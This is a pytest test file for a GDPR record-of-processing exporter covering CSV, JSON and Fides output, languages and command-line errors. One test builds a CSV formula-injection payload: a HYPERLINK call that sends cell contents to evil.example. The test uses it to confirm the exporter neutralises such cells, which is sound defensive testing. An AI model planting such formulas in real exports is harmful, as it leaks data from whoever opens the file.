from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from fideslang.default_taxonomy import DEFAULT_TAXONOMY
from fideslang.models import (
    LegalBasisForProcessingEnum,
    LegalBasisForTransfersEnum,
    SpecialCategoryLegalBasisEnum,
    System,
    Taxonomy,
)

from dsgvo_gen.checker import check_project
from dsgvo_gen.cli import export as export_command
from dsgvo_gen.cli import main
from dsgvo_gen.export import (
    ACTIVITY_FIELDS,
    CSV_COLUMNS,
    FORMATS,
    UnknownLanguage,
    export,
    taxonomy_map,
)
from dsgvo_gen.i18n import labels
from dsgvo_gen.model import Provider
from dsgvo_gen.resources import bundled_dir
from tests.conftest import ROOT, TODAY

DESCRIPTOR = Path("providers") / "full-video.yaml"


def exported(root: Path, export_format: str, lang: str | None = None) -> bytes:
    result = export(root, export_format, lang=lang, today=TODAY)
    assert result.content is not None, result.report.findings
    return result.content


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def edit_descriptor(project: Path, old: str, new: str) -> None:
    path = project / DESCRIPTOR
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def taxonomy_keys(kind: str) -> set[str]:
    return {
        item.fides_key
        for item in getattr(DEFAULT_TAXONOMY, kind)
        if not item.version_deprecated  # a deprecated key would be a bad choice, too
    }


def run(*args: str, project: Path) -> Any:
    return CliRunner().invoke(main, ["--project", str(project), *args], catch_exceptions=False)


# --- the record of processing activities --------------------------------------------------


def test_one_activity_per_provider_and_purpose() -> None:
    project = check_project(ROOT, today=TODAY)
    expected = [(p.id, purpose.id) for p in sorted(project.providers, key=lambda p: p.id)
                for purpose in p.processing.purposes]  # fmt: skip
    record = json.loads(exported(ROOT, "ropa-json"))
    assert [(a["provider_id"], a["purpose_id"]) for a in record["activities"]] == expected
    rows = csv_rows(exported(ROOT, "ropa-csv"))
    assert len(rows) == 1 + len(expected)
    assert len(expected) > len(project.providers)  # several purposes per provider


@pytest.mark.parametrize(
    ("lang", "first", "purpose_header"),
    [("de", "Verantwortlicher", "Zweck der Verarbeitung"),
     ("en", "Controller", "Purpose of the processing")],
)  # fmt: skip
def test_csv_headers_and_texts_in_the_chosen_language(
    project: Path, lang: str, first: str, purpose_header: str
) -> None:
    rows = csv_rows(exported(project, "ropa-csv", lang))
    words = labels(bundled_dir("templates"), lang)
    assert rows[0] == [words[f"ropa.columns.{column}"] for column in CSV_COLUMNS]
    assert rows[0][0] == first
    purpose = rows[0].index(purpose_header)
    assert [row[purpose] for row in rows[1:]] == (
        ["Videoberatung", "Betriebssicherheit"] if lang == "de"
        else ["Video counselling", "Operational security"]
    )  # fmt: skip


def test_csv_defaults_to_the_projects_first_language(project: Path) -> None:
    assert exported(project, "ropa-csv") == exported(project, "ropa-csv", "de")


def test_csv_round_trips_with_a_cell_per_column_on_every_row() -> None:
    content = exported(ROOT, "ropa-csv")
    assert content.count(b"\r\n") >= 2 and b"\r\r" not in content
    rows = csv_rows(content)
    assert {len(row) for row in rows} == {len(CSV_COLUMNS)}
    assert rows[1][CSV_COLUMNS.index("dpo")] == "nicht benannt"
    text = content.decode("utf-8-sig")
    assert "Übermittlungen in Drittländer" in text and "Löschung nach 14 Tagen" in text


def test_csv_carries_every_art_30_element(project: Path) -> None:
    rows = csv_rows(exported(project, "ropa-csv", "en"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Controller"].startswith("Test-Support GmbH\nTeststraße 1")
    assert row["Data protection officer"] == "Dana Beispiel\ndsb@test-support.test"
    assert row["Legal basis"] == "Consent (Art. 6(1)(a) GDPR)\nExplicit consent (Art. 9(2)(a) GDPR)"
    assert row["Categories of data subjects"] == "Clients seeking counselling"
    assert (
        "Health data in the conversation (special category (Art. 9 GDPR))"
        in (row["Categories of personal data"])
    )
    assert "Example CDN, Inc. (United States), sub-processor" in row["Categories of recipients"]
    assert row["Transfers to third countries and safeguards"] == (
        "Example CDN, Inc. (United States): EU-U.S. Data Privacy Framework (Art. 45 GDPR, "
        "Commission Implementing Decision (EU) 2023/1795); DPF List checked on 1 October 2026; "
        "https://www.dataprivacyframework.gov/list"
    )
    assert row["Time limits for erasure"].startswith(
        "IP address: deleted after 90 days (as stated by the provider)\n"
    )
    measures = row["Technical and organisational measures"]
    assert "End-to-end encryption: always" in measures and "Art. 32 GDPR" in measures
    assert row["Facts last reviewed"] == "2026-10-01"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])  # "\r" is a DG117 finding
def test_formula_cells_are_neutralised(project: Path, start: str) -> None:
    attack = start + 'HYPERLINK("https://evil.example/?leak="&A1,"Details")'
    edit_descriptor(project, "{de: Videoberatung, en: Video counselling}", json.dumps(attack))
    rows = csv_rows(exported(project, "ropa-csv"))
    purpose = rows[0].index("Zweck der Verarbeitung")
    assert rows[1][purpose] == "'" + attack
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_ropa_json_is_sorted_and_byte_identical_across_runs() -> None:
    first, second = exported(ROOT, "ropa-json"), exported(ROOT, "ropa-json")
    assert first == second
    record = json.loads(first)
    assert list(record) == sorted(record)
    assert record["generated_by"].startswith("dsgvo-gen ")
    assert record["controller"]["name"].startswith("Beispiel IT-Service Huber")
    assert record["dpo"] is None and record["language"] == "de"  # the shipped config has none
    for activity in record["activities"]:
        assert set(activity) == set(ACTIVITY_FIELDS)
        assert isinstance(activity["data_categories"], list)


# --- Fides ----------------------------------------------------------------------------------


def fides_systems(root: Path, lang: str | None = None) -> list[dict[str, Any]]:
    document = yaml.safe_load(exported(root, "fides", lang))
    assert set(document) == {"system"}
    systems: list[dict[str, Any]] = document["system"]
    return systems


@pytest.mark.parametrize("which", ["shipped", "fixture"])
def test_fides_manifest_validates_against_fideslang(project: Path, which: str) -> None:
    root = ROOT if which == "shipped" else project
    systems = fides_systems(root)
    Taxonomy.model_validate({"system": systems})
    categories, uses = taxonomy_keys("data_category"), taxonomy_keys("data_use")
    subjects = taxonomy_keys("data_subject")
    for raw in systems:
        system = System.model_validate(raw)
        assert system.privacy_declarations
        for declaration in system.privacy_declarations:
            assert set(declaration.data_categories) <= categories, declaration.data_categories
            assert declaration.data_use in uses
            assert set(declaration.data_subjects) <= subjects


def test_fides_system_per_provider_with_a_declaration_per_purpose() -> None:
    project = check_project(ROOT, today=TODAY)
    systems = {s["fides_key"]: s for s in fides_systems(ROOT)}
    assert sorted(systems) == sorted(p.id for p in project.providers)
    for p in project.providers:
        assert len(systems[p.id]["privacy_declarations"]) == len(p.processing.purposes)
        assert systems[p.id]["meta"]["reviewed_on"] == p.reviewed_on.isoformat()


def test_fides_records_the_dpf_as_adequacy_with_its_check_date(project: Path) -> None:
    (system,) = fides_systems(project)
    assert system["does_international_transfers"] is True
    assert system["legal_basis_for_transfers"] == ["Adequacy Decision"]
    assert system["meta"]["transfers"] == [{
        "recipient": "Example CDN, Inc.", "country": "US", "mechanism": "eu-us-dpf",
        "dpf_checked_on": "2026-10-01", "safeguard_url": "https://www.dataprivacyframework.gov/list",
    }]  # fmt: skip
    assert system["dpa_location"] == "https://video.example/avv"
    counselling = next(
        d for d in system["privacy_declarations"] if d["name"] == "Video counselling"
    )
    assert counselling["legal_basis_for_processing"] == "Consent"
    assert counselling["special_category_legal_basis"] == "Explicit consent"
    assert "user.health_and_medical" in counselling["data_categories"]


def test_shipped_providers_need_no_fallback() -> None:
    for system in fides_systems(ROOT):
        assert "taxonomy_fallback" not in system["meta"], system["fides_key"]
        assert system["meta"]["not_in_taxonomy"] == {"data_subjects": ["bystanders"]}


def test_unmapped_ids_fall_back_and_are_named_for_review(project: Path) -> None:
    edit_descriptor(project, "connection", "net-trace")
    edit_descriptor(project, "- id: security", "- id: abuse-watch")
    edit_descriptor(project, "- id: clients", "- id: visitors")
    (system,) = fides_systems(project)
    security = next(
        d for d in system["privacy_declarations"] if d["name"] == "Operational security"
    )
    assert security["data_use"] == "essential.service"
    assert "user" in security["data_categories"] and security["data_subjects"] == []
    assert system["meta"]["taxonomy_fallback"] == {
        "data_categories": {"net-trace": ["user"]},
        "data_uses": {"abuse-watch": "essential.service"},
        "data_subjects": {"visitors": []},
    }


def descriptor_ids(provider: Provider) -> dict[str, set[str]]:
    proc = provider.processing
    return {"data_categories": {d.id for d in proc.data},
            "data_uses": {p.id for p in proc.purposes},
            "data_subjects": {s.id for s in proc.subjects}}  # fmt: skip


def test_the_mapping_table_covers_every_shipped_id_with_taxonomy_keys() -> None:
    table = taxonomy_map()
    paths = [*sorted((ROOT / "providers").glob("**/*.yaml")),
             ROOT / "tests" / "data" / "providers" / "valid" / "full-video.yaml"]  # fmt: skip
    providers = check_project(ROOT, paths, today=TODAY).providers
    assert len(providers) == len(paths)  # drafts included
    for provider in providers:
        for kind, ids in descriptor_ids(provider).items():
            assert ids <= set(table[kind]), (provider.id, kind, ids - set(table[kind]))
    assert {k for keys in table["data_categories"].values() for k in keys} <= taxonomy_keys(
        "data_category"
    )
    assert set(table["data_uses"].values()) <= taxonomy_keys("data_use")
    assert {k for keys in table["data_subjects"].values() for k in keys} <= taxonomy_keys(
        "data_subject"
    )
    enums = (("legal_basis_for_processing", LegalBasisForProcessingEnum),
             ("special_category_legal_basis", SpecialCategoryLegalBasisEnum),
             ("legal_basis_for_transfers", LegalBasisForTransfersEnum))  # fmt: skip
    for key, enum in enums:
        assert set(table[key].values()) <= {member.value for member in enum}


# --- the command line -----------------------------------------------------------------------


def test_cli_offers_exactly_the_formats_of_the_module() -> None:
    option = next(p for p in export_command.params if p.name == "export_format")
    assert tuple(option.type.choices) == FORMATS  # type: ignore[attr-defined]


@pytest.mark.parametrize("export_format", FORMATS)
def test_cli_writes_to_standard_output(project: Path, export_format: str) -> None:
    result = run("export", "--format", export_format, "--today", "2026-11-21", project=project)
    assert result.exit_code == 0
    assert result.stdout_bytes == exported(project, export_format)
    assert result.stderr == ""


def test_cli_writes_the_out_file(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "records" / "ropa.csv"
    result = run("export", "--format", "ropa-csv", "--lang", "en", "--out", str(out),
                 "--today", "2026-11-21", project=project)  # fmt: skip
    assert result.exit_code == 0
    assert out.read_bytes() == exported(project, "ropa-csv", "en")
    assert result.stdout == f"wrote ropa-csv (2 activities) to {out}\n"


def test_cli_refuses_a_project_with_errors(project: Path, tmp_path: Path) -> None:
    edit_descriptor(project, "legal_basis: [art6-1-f]", "legal_basis: []")
    out = tmp_path / "ropa.csv"
    result = run("export", "--format", "ropa-csv", "--out", str(out), "--today", "2026-11-21",
                 project=project)  # fmt: skip
    assert result.exit_code == 1
    assert "error[DG" in result.stderr and "export refused" in result.stderr
    assert "Traceback" not in result.output and result.stdout == ""
    assert not out.exists()


def test_cli_unknown_format_is_a_usage_error(project: Path) -> None:
    result = run("export", "--format", "xlsx", project=project)
    assert result.exit_code == 2


def test_cli_unknown_language_is_a_usage_error(project: Path) -> None:
    result = run("export", "--format", "ropa-json", "--lang", "fr", "--today", "2026-11-21",
                 project=project)  # fmt: skip
    assert result.exit_code == 2 and "no language fr" in result.output
    with pytest.raises(UnknownLanguage):
        export(project, "ropa-json", lang="fr", today=TODAY)


def test_api_unknown_format_is_a_value_error(project: Path) -> None:
    with pytest.raises(ValueError, match="no export format 'xlsx'"):
        export(project, "xlsx", today=TODAY)


def test_own_labels_change_only_their_keys(project: Path) -> None:
    """A project's catalogue with one label: the export uses it, the rest stays bundled."""
    (project / "templates" / "labels").mkdir(parents=True)
    (project / "templates" / "labels" / "de.yaml").write_text(
        'ropa:\n  columns:\n    controller: "Verantwortliche Stelle"\n'
    )
    result = run("export", "--format", "ropa-csv", "--today", "2026-11-21", project=project)
    assert result.exit_code == 0, result.stderr
    header = result.stdout.splitlines()[0]
    assert "Verantwortliche Stelle" in header and "Datenschutzbeauftragter" in header


def test_a_broken_own_catalogue_is_a_finding_at_its_line(project: Path) -> None:
    (project / "templates" / "labels").mkdir(parents=True)
    (project / "templates" / "labels" / "de.yaml").write_text(
        'ropa:\n  colums:\n    controller: "Verantwortliche Stelle"\n'
    )
    result = run("export", "--format", "ropa-csv", "--today", "2026-11-21", project=project)
    assert result.exit_code == 1
    assert (
        "templates/labels/de.yaml:2:3: error[DG111] unknown label 'ropa.colums'; did you "
        "mean 'columns'?" in result.stderr
    )
    assert "Finding(" not in result.stderr


def test_fides_defaults_to_english_and_ropa_to_the_project_language(project: Path) -> None:
    names = {d["name"] for d in fides_systems(project)[0]["privacy_declarations"]}
    assert names == {"Video counselling", "Operational security"}
    german = {d["name"] for d in fides_systems(project, "de")[0]["privacy_declarations"]}
    assert german == {"Videoberatung", "Betriebssicherheit"}
    record = json.loads(exported(project, "ropa-json"))
    assert record["activities"][0]["purpose"] in ("Videoberatung", "Betriebssicherheit")
